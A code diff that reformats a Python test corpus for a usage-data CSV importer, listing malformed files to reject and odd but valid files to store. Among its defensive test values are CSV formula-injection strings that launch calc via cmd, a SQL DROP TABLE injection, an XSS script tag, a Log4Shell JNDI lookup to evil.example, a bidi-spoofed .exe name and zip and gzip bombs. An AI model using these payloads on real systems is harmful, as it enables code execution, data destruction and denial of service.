@@ -7,6 +7,7 @@ integration: the Authress portal format, or the Doow export format with `provide
 "authress". Add a file by adding one entry: test_hostile_imports runs each through the upload
 page and through `manage.py import_usage`.
 """
+
 from __future__ import annotations
 
 import csv
@@ -37,7 +38,12 @@ def doow(*rows: dict[str, str], header: tuple[str, ...] = CSV_COLUMNS, end: str 
 
 def cell(**cells: str) -> dict[str, str]:
     """A Doow row for 2026-03-01 00:00–01:00 (api_calls, 1), with `cells` replaced."""
-    return {"bucket_start": f"{D1}T00:00:00Z", "bucket_end": f"{D1}T01:00:00Z", "metric": "api_calls", "quantity": "1"} | cells
+    return {
+        "bucket_start": f"{D1}T00:00:00Z",
+        "bucket_end": f"{D1}T01:00:00Z",
+        "metric": "api_calls",
+        "quantity": "1",
+    } | cells
 
 
 def authress(*rows: str, end: str = "\n", header: str = AUTHRESS) -> bytes:
@@ -52,12 +58,26 @@ def row(start: str, end: str, metric: str, quantity: str, unit: str = "", **dims
     def moment(text: str) -> datetime:
         return datetime.fromisoformat(text.replace("Z", "+00:00")).astimezone(UTC)
 
-    return (moment(start), moment(end), metric, Decimal(quantity), unit or METRICS[metric], *(dims.get(d, "") for d in DIMENSIONS))
+    return (
+        moment(start),
+        moment(end),
+        metric,
+        Decimal(quantity),
+        unit or METRICS[metric],
+        *(dims.get(d, "") for d in DIMENSIONS),
+    )
 
 
 def day(date: str, calls: str, resource: str = "", operation: str = "") -> Row:
     start = datetime.fromisoformat(date).replace(tzinfo=UTC)
-    return row(start.isoformat(), (start + timedelta(days=1)).isoformat(), "api_calls", calls, resource=resource, operation=operation)
+    return row(
+        start.isoformat(),
+        (start + timedelta(days=1)).isoformat(),
+        "api_calls",
+        calls,
+        resource=resource,
+        operation=operation,
+    )
 
 
 # ---------------------------------------------------------------- the corpus
@@ -106,18 +126,37 @@ REJECTED: tuple[Rejected, ...] = (
     Rejected("header and no rows", authress(), None, r"no data rows"),
     Rejected("a row with too few fields", authress(f"{D1},/r"), 2, r"has 2 fields"),
     Rejected("a row with too many fields", authress(f"{D1},/r,GET,1,extra"), 2, r"has 5 fields"),
-    Rejected("an unterminated quote swallowing the rest", authress(f'"{D1},/r,GET,1', f"{D2},/r,GET,2"), 2, r"has 1 fields"),
+    Rejected(
+        "an unterminated quote swallowing the rest", authress(f'"{D1},/r,GET,1', f"{D2},/r,GET,2"), 2, r"has 1 fields"
+    ),
     Rejected("the header again mid-file", authress(f"{D1},/r,GET,1", AUTHRESS), 3, r"date 'date' is not a date"),
-    Rejected("a BOM mid-file (two files concatenated)", authress(f"{D1},/r,GET,1", f"\ufeff{D2},/r,GET,2"), 3, r"is not a date"),
+    Rejected(
+        "a BOM mid-file (two files concatenated)",
+        authress(f"{D1},/r,GET,1", f"\ufeff{D2},/r,GET,2"),
+        3,
+        r"is not a date",
+    ),
     Rejected("a NUL byte", authress(f"{D1},/r\x00x,GET,1"), 2, r"NUL character"),
     Rejected("a field past the CSV reader's limit", authress(f"{D1},{'x' * 200_000},GET,1"), 2, r"unreadable CSV"),
-    Rejected("a resource longer than the column", authress(f"{D1},{'r' * 201},GET,1"), 2, r"resource is longer than 200"),
+    Rejected(
+        "a resource longer than the column", authress(f"{D1},{'r' * 201},GET,1"), 2, r"resource is longer than 200"
+    ),
     # -- line numbers that must survive odd line ends and multi-line cells
-    Rejected("CR-only line ends, error on line 3", authress(f"{D1},/r,GET,1", f"{D2},/r,GET,x", end="\r"), 3, r"calls 'x'"),
-    Rejected("mixed CRLF, CR and LF, error on line 4",
-             f"{AUTHRESS}\r\n{D1},/r,GET,1\r{D2},/r,GET,2\n{D3},/r,GET,-1\n".encode(), 4, r"non-negative"),
-    Rejected("a multi-line cell, error on the next record",
-             authress(f'{D1},"line one\nline two",GET,1', f"{D2},/r,GET,nope"), 4, r"calls 'nope'"),
+    Rejected(
+        "CR-only line ends, error on line 3", authress(f"{D1},/r,GET,1", f"{D2},/r,GET,x", end="\r"), 3, r"calls 'x'"
+    ),
+    Rejected(
+        "mixed CRLF, CR and LF, error on line 4",
+        f"{AUTHRESS}\r\n{D1},/r,GET,1\r{D2},/r,GET,2\n{D3},/r,GET,-1\n".encode(),
+        4,
+        r"non-negative",
+    ),
+    Rejected(
+        "a multi-line cell, error on the next record",
+        authress(f'{D1},"line one\nline two",GET,1', f"{D2},/r,GET,nope"),
+        4,
+        r"calls 'nope'",
+    ),
     # -- numbers
     Rejected("negative calls", authress(f"{D1},/r,GET,-5"), 2, r"not a whole, non-negative number"),
     Rejected("fractional calls", authress(f"{D1},/r,GET,1.5"), 2, r"not a whole, non-negative number"),
@@ -139,26 +178,48 @@ REJECTED: tuple[Rejected, ...] = (
     Rejected("the wrong unit", doow(cell(unit="tokens")), 2, r"unit 'tokens' is wrong"),
     Rejected("another provider's row", doow(cell(provider="openai")), 2, r"provider 'openai'"),
     Rejected("another integration's row", doow(cell(integration="999999")), 2, r"belongs to integration '999999'"),
-    Rejected("a bucket ending before it starts", doow(cell(bucket_end=f"{D1}T00:00:00Z", bucket_start=f"{D1}T01:00:00Z")),
-             2, r"bucket_end is not after bucket_start"),
+    Rejected(
+        "a bucket ending before it starts",
+        doow(cell(bucket_end=f"{D1}T00:00:00Z", bucket_start=f"{D1}T01:00:00Z")),
+        2,
+        r"bucket_end is not after bucket_start",
+    ),
     Rejected("a time in words", doow(cell(bucket_start="yesterday")), 2, r"not an ISO 8601 time"),
     # -- dates
     Rejected("a date that does not exist", authress("2026-02-30,/r,GET,1"), 2, r"is not a date"),
     Rejected("a date in words", authress("1 March 2026,/r,GET,1"), 2, r"is not a date"),
     Rejected("a date far in the future", authress(f"{LATER},/r,GET,1"), 2, r"future|after"),
-    Rejected("a bucket far in the future", doow(cell(bucket_start=f"{LATER}T00:00:00Z", bucket_end=f"{LATER}T01:00:00Z")),
-             2, r"future|after"),
+    Rejected(
+        "a bucket far in the future",
+        doow(cell(bucket_start=f"{LATER}T00:00:00Z", bucket_end=f"{LATER}T01:00:00Z")),
+        2,
+        r"future|after",
+    ),
     # -- the same key twice
-    Rejected("the same key twice with different values", authress(f"{D1},/r,GET,1", f"{D1},/r,GET,9"),
-             3, r"same bucket, dimensions and metric as line 2"),
-    Rejected("the same key twice with the same value", authress(f"{D1},/r,GET,1", f"{D1},/r,GET,1"),
-             3, r"same bucket, dimensions and metric as line 2"),
-    Rejected("the same key written two ways", doow(cell(), cell(bucket_start=f"{D1}T01:00:00+01:00", quantity="2")),
-             3, r"same bucket, dimensions and metric as line 2"),
+    Rejected(
+        "the same key twice with different values",
+        authress(f"{D1},/r,GET,1", f"{D1},/r,GET,9"),
+        3,
+        r"same bucket, dimensions and metric as line 2",
+    ),
+    Rejected(
+        "the same key twice with the same value",
+        authress(f"{D1},/r,GET,1", f"{D1},/r,GET,1"),
+        3,
+        r"same bucket, dimensions and metric as line 2",
+    ),
+    Rejected(
+        "the same key written two ways",
+        doow(cell(), cell(bucket_start=f"{D1}T01:00:00+01:00", quantity="2")),
+        3,
+        r"same bucket, dimensions and metric as line 2",
+    ),
     # -- not UTF-8 text at all
     Rejected("Latin-1", f"{AUTHRESS}\n{D1},Gr\u00fcn,GET,1\n".encode("latin-1"), 2, r"not UTF-8"),
     Rejected("UTF-16 with its BOM", f"{AUTHRESS}\n{D1},/r,GET,1\n".encode("utf-16"), 1, r"not UTF-8"),
-    Rejected("an overlong UTF-8 sequence", authress(f"{D1},/r,GET,1") + b"2026-03-02,\xc0\xaf,GET,1\n", 3, r"not UTF-8"),
+    Rejected(
+        "an overlong UTF-8 sequence", authress(f"{D1},/r,GET,1") + b"2026-03-02,\xc0\xaf,GET,1\n", 3, r"not UTF-8"
+    ),
     Rejected("an encoded surrogate", authress(f"{D1},/r,GET,1") + b"2026-03-02,\xed\xa0\x80,GET,1\n", 3, r"not UTF-8"),
     Rejected("a zip bomb named usage.csv", _zip_bomb(), ANY_LINE, r"not UTF-8"),
     Rejected("a gzip bomb named usage.csv", gzip.compress(b"0" * 20_000_000), ANY_LINE, r"not UTF-8"),
@@ -168,57 +229,121 @@ REJECTED: tuple[Rejected, ...] = (
 
 # Refused once issue 8 item 2.9 (dates from 2000-01-01 to a year ahead) is in: stored today.
 REJECTED_ONCE_DATES_ARE_BOUNDED: tuple[Rejected, ...] = (
-    Rejected("a bucket in year 1", doow(cell(bucket_start="0001-01-01T00:00:00Z", bucket_end="0001-01-01T01:00:00Z")), 2, r"."),
+    Rejected(
+        "a bucket in year 1",
+        doow(cell(bucket_start="0001-01-01T00:00:00Z", bucket_end="0001-01-01T01:00:00Z")),
+        2,
+        r".",
+    ),
     Rejected("a bucket ending in 9999", doow(cell(bucket_end="9999-12-31T00:00:00Z")), 2, r"."),
     Rejected("a day in 1999", authress("1999-12-31,/r,GET,1"), 2, r"."),
 )
 
-FORMULAS = ("=HYPERLINK(\"http://evil.example\",\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0")
-MARKUP = ("<script>alert(1)</script>", "'; DROP TABLE usage_usagerecord; --", "{{ 7*7 }}", "${jndi:ldap://evil.example/a}")
+FORMULAS = ('=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0")
+MARKUP = (
+    "<script>alert(1)</script>",
+    "'; DROP TABLE usage_usagerecord; --",
+    "{{ 7*7 }}",
+    "${jndi:ldap://evil.example/a}",
+)
 
 STORED: tuple[Stored, ...] = (
     Stored("a UTF-8 BOM", b"\xef\xbb\xbf" + authress(f"{D1},/r,GET,5"), frozenset({day(D1, "5", "/r", "GET")})),
-    Stored("CRLF line ends", authress(f"{D1},/r,GET,5", f"{D2},/r,GET,6", end="\r\n"),
-           frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")})),
-    Stored("CR-only line ends", authress(f"{D1},/r,GET,5", f"{D2},/r,GET,6", end="\r"),
-           frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")})),
-    Stored("a BOM, CRLF and blank lines between rows", b"\xef\xbb\xbf" + authress(f"{D1},/r,GET,5", "", " ", f"{D2},/r,GET,6", end="\r\n"),
-           frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")})),
-    Stored("the header in another case, padded", authress(f"{D1},/r,GET,5", header=" DATE , Resource ,OPERATION,  calls "),
-           frozenset({day(D1, "5", "/r", "GET")})),
-    Stored("cells padded with spaces (trimmed)", authress(f"  {D1} ,  /r  , GET ,  5  "), frozenset({day(D1, "5", "/r", "GET")})),
-    Stored("formula-looking cells (stored as written)",
-           doow(*(cell(resource=f, operation=f"op{i}") for i, f in enumerate(FORMULAS))),
-           frozenset(row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1", resource=f, operation=f"op{i}")
-                     for i, f in enumerate(FORMULAS))),
-    Stored("markup and injection strings (stored as written)",
-           doow(*(cell(resource=m, operation=f"op{i}") for i, m in enumerate(MARKUP))),
-           frozenset(row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1", resource=m, operation=f"op{i}")
-                     for i, m in enumerate(MARKUP))),
-    Stored("bidi controls, zero-width characters and emoji",
-           authress(f"{D1},/r\u202egnp.exe\u202c,GET,1", f"{D1},a\u200bb,GET,2", f"{D1},caf\u00e9 \u2615,GET,3"),
-           frozenset({day(D1, "1", "/r\u202egnp.exe\u202c", "GET"), day(D1, "2", "a\u200bb", "GET"),
-                      day(D1, "3", "caf\u00e9 \u2615", "GET")})),
-    Stored("a quoted cell with a line break", authress(f'{D1},"line one\nline two",GET,1'),
-           frozenset({day(D1, "1", "line one\nline two", "GET")})),
-    Stored("times with an offset (converted to UTC)",
-           doow(cell(bucket_start=f"{D1}T05:30:00+05:30", bucket_end=f"{D1}T06:30:00+05:30")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")})),
-    Stored("a quantity in exponent notation", doow(cell(quantity="1.5E+3")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1500")})),
-    Stored("nine decimals", doow(cell(metric="cost", unit="EUR", quantity="0.123456789")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "cost", "0.123456789", "EUR")})),
-    Stored("attribution columns in the file (ignored)", doow(cell(application="=EVIL()", license="Stolen plan")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")})),
-    Stored("provider and integration cells naming this integration", doow(cell(provider="authress")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")})),
+    Stored(
+        "CRLF line ends",
+        authress(f"{D1},/r,GET,5", f"{D2},/r,GET,6", end="\r\n"),
+        frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")}),
+    ),
+    Stored(
+        "CR-only line ends",
+        authress(f"{D1},/r,GET,5", f"{D2},/r,GET,6", end="\r"),
+        frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")}),
+    ),
+    Stored(
+        "a BOM, CRLF and blank lines between rows",
+        b"\xef\xbb\xbf" + authress(f"{D1},/r,GET,5", "", " ", f"{D2},/r,GET,6", end="\r\n"),
+        frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")}),
+    ),
+    Stored(
+        "the header in another case, padded",
+        authress(f"{D1},/r,GET,5", header=" DATE , Resource ,OPERATION,  calls "),
+        frozenset({day(D1, "5", "/r", "GET")}),
+    ),
+    Stored(
+        "cells padded with spaces (trimmed)",
+        authress(f"  {D1} ,  /r  , GET ,  5  "),
+        frozenset({day(D1, "5", "/r", "GET")}),
+    ),
+    Stored(
+        "formula-looking cells (stored as written)",
+        doow(*(cell(resource=f, operation=f"op{i}") for i, f in enumerate(FORMULAS))),
+        frozenset(
+            row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1", resource=f, operation=f"op{i}")
+            for i, f in enumerate(FORMULAS)
+        ),
+    ),
+    Stored(
+        "markup and injection strings (stored as written)",
+        doow(*(cell(resource=m, operation=f"op{i}") for i, m in enumerate(MARKUP))),
+        frozenset(
+            row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1", resource=m, operation=f"op{i}")
+            for i, m in enumerate(MARKUP)
+        ),
+    ),
+    Stored(
+        "bidi controls, zero-width characters and emoji",
+        authress(f"{D1},/r\u202egnp.exe\u202c,GET,1", f"{D1},a\u200bb,GET,2", f"{D1},caf\u00e9 \u2615,GET,3"),
+        frozenset(
+            {
+                day(D1, "1", "/r\u202egnp.exe\u202c", "GET"),
+                day(D1, "2", "a\u200bb", "GET"),
+                day(D1, "3", "caf\u00e9 \u2615", "GET"),
+            }
+        ),
+    ),
+    Stored(
+        "a quoted cell with a line break",
+        authress(f'{D1},"line one\nline two",GET,1'),
+        frozenset({day(D1, "1", "line one\nline two", "GET")}),
+    ),
+    Stored(
+        "times with an offset (converted to UTC)",
+        doow(cell(bucket_start=f"{D1}T05:30:00+05:30", bucket_end=f"{D1}T06:30:00+05:30")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")}),
+    ),
+    Stored(
+        "a quantity in exponent notation",
+        doow(cell(quantity="1.5E+3")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1500")}),
+    ),
+    Stored(
+        "nine decimals",
+        doow(cell(metric="cost", unit="EUR", quantity="0.123456789")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "cost", "0.123456789", "EUR")}),
+    ),
+    Stored(
+        "attribution columns in the file (ignored)",
+        doow(cell(application="=EVIL()", license="Stolen plan")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")}),
+    ),
+    Stored(
+        "provider and integration cells naming this integration",
+        doow(cell(provider="authress")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")}),
+    ),
 )
 
 # Quantities the importer accepts as fitting the store (30 digits, 9 decimals): SQLite keeps
 # decimals as 8-byte floats, so these come back rounded (or, at the top, unreadable).
 STORED_PRECISELY_ONLY_ON_POSTGRESQL: tuple[Stored, ...] = (
-    Stored("eighteen digits and nine decimals", doow(cell(quantity="123456789012345678.123456789")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "123456789012345678.123456789")})),
-    Stored("the largest quantity accepted", doow(cell(quantity="999999999999999999999.999999999")),
-           frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "999999999999999999999.999999999")})),
+    Stored(
+        "eighteen digits and nine decimals",
+        doow(cell(quantity="123456789012345678.123456789")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "123456789012345678.123456789")}),
+    ),
+    Stored(
+        "the largest quantity accepted",
+        doow(cell(quantity="999999999999999999999.999999999")),
+        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "999999999999999999999.999999999")}),
+    ),
 )
